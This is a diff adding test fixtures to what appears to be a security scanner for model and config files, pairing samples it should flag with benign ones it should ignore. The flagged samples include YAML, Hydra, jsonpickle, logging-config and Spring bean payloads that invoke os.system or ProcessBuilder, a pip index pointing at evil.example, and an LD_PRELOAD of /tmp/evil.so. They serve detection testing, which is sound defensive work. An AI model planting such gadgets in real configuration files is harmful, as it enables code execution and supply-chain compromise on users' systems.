@@ -31,6 +31,20 @@ def found(
 
 
 FIRING: dict[str, tuple[str, str]] = {
+    "interpolated target": (
+        "critical target",
+        "a: os\nm:\n  _target_: ${..a}.${b:1}system\nb: 1\nn:\n  _target_: ${a}.system\n",
+    ),
+    "default of an interpolation": ("critical target", "m:\n  _target_: ${oc.env:X,os.system}\n"),
+    "jsonpickle": ("critical target", '{"py/function": "os.system"}'),
+    "evaluated logging": (
+        "critical target",
+        "[handler_h]\nclass=StreamHandler\nargs=(__import__('os').system('x'),)\n",
+    ),
+    "bean": ("critical target", '<beans><bean id="x" class="java.lang.ProcessBuilder"><y/></bean></beans>'),
+    "index of pip": ("warning package-index", "[global]\nindex-url=http://evil.example/simple\n"),
+    "preloaded library": ("warning command", "LD_PRELOAD=/tmp/evil.so\nX=1\n"),
+    "generation elsewhere": ("warning code-elsewhere", '{"custom_generate": "evil/repo"}'),
     "apply": ("critical unsafe-tag", '!!python/object/apply:os.system ["echo modelaudit-sample"]'),
     "name among data": ("critical unsafe-tag", "a: 1\nb:\n  - !!python/name:os.system\n"),
     "unknown function": ("warning unsafe-tag", "a: !!python/object/apply:mine.run [1]\n"),
@@ -105,6 +119,15 @@ FIRING: dict[str, tuple[str, str]] = {
 }
 
 SILENT: dict[str, str] = {
+    "pictures and numbers in base64": (
+        '{"icon": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",'
+        ' "key": "gAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "zip": "eJzzSM3JyVcIzy/KSVEEABxJBD4", "id": "fCustomIdentifier0"}'
+    ),
+    "known target by interpolation": "a: torch.nn\nm:\n  _target_: ${a}.Linear\n  n: ${oc.env:N,3}\n",
+    "jsonpickle of numbers": '{"py/object": "numpy.ndarray", "py/type": "builtins.int"}',
+    "handlers of fileConfig": "[handler_h]\nclass=StreamHandler\nargs=(sys.stdout,)\n[formatter_f]\nformat=%(x)s\n",
+    "settings of pip": "[global]\nindex-url=https://pypi.example.org/simple\n[env]\nLD_PRELOAD=/usr/lib/libjemalloc.so\n",
+    "beans": '<beans><bean id="a" class="java.util.ArrayList"><x/></bean></beans>',
     "plain tags": "a: !!python/tuple [1, 2]\nb: !!python/str x\nc: !!str y\nd: !Ref z\n",
     "a tag in text": "note: 'use !!python/object/apply:os.system to be evil'\n",
     "known targets": "model:\n  _target_: torch.nn.Linear\n  in_features: 3\nopt:\n  _target_: torch.optim.Adam\n",
